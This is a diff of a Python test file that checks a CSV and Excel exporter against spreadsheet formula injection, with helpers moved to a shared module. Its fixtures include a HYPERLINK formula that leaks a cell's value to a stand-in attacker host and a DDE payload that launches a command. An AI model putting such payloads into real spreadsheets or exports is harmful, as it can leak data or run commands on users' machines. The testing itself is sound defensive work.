@@ -7,18 +7,20 @@ from __future__ import annotations
 import csv
 import io
 import json
-import re
 from decimal import Decimal
 from pathlib import Path
-from typing import Any
 
-import openpyxl
 import pytest
 from tests.core.test_docs_frameworks import EXAMPLE, _data_example
+from tests.formulas import (
+    HYPERLINK,
+    NUMBER,
+    assert_no_formula_in_csv,
+    assert_no_formula_in_workbook,
+)
 
 from chiso.cli import main
 
-HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&B2,"Bấm vào đây")'
 RENAMED = {
     "Sở Alpha": HYPERLINK,
     "Sở Beta": "+Sở Beta",
@@ -26,8 +28,6 @@ RENAMED = {
     "Sở Theta": "@Sở Theta",
 }
 INFO = "-2+3+cmd|' /C calc'!A0"
-DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
-NUMBER = re.compile(r"[+-]?\d+(?:[.,]\d+)?")
 
 
 def _write_csv(path: Path, rows: list[list[str]]) -> None:
@@ -61,23 +61,6 @@ def files(tmp_path: Path) -> dict[str, Path]:
 def run(files: dict[str, Path], command: str, *more: object) -> None:
     argv = [command, "--framework", files["framework"], "--data", files["data"], *more]
     assert main([str(arg) for arg in argv]) == 0
-
-
-def assert_no_formula_in_csv(text: str) -> list[list[str]]:
-    rows = list(csv.reader(io.StringIO(text)))
-    for row in rows:
-        for field in row:
-            assert not field.startswith(DANGEROUS) or NUMBER.fullmatch(field), field
-    return rows
-
-
-def assert_no_formula_in_workbook(path: Path) -> Any:
-    workbook = openpyxl.load_workbook(path)
-    for sheet in workbook.worksheets:
-        for row in sheet.iter_rows():
-            for cell in row:
-                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
-    return workbook
 
 
 def test_score_csv_quotes_names_a_spreadsheet_would_run_and_keeps_numbers(
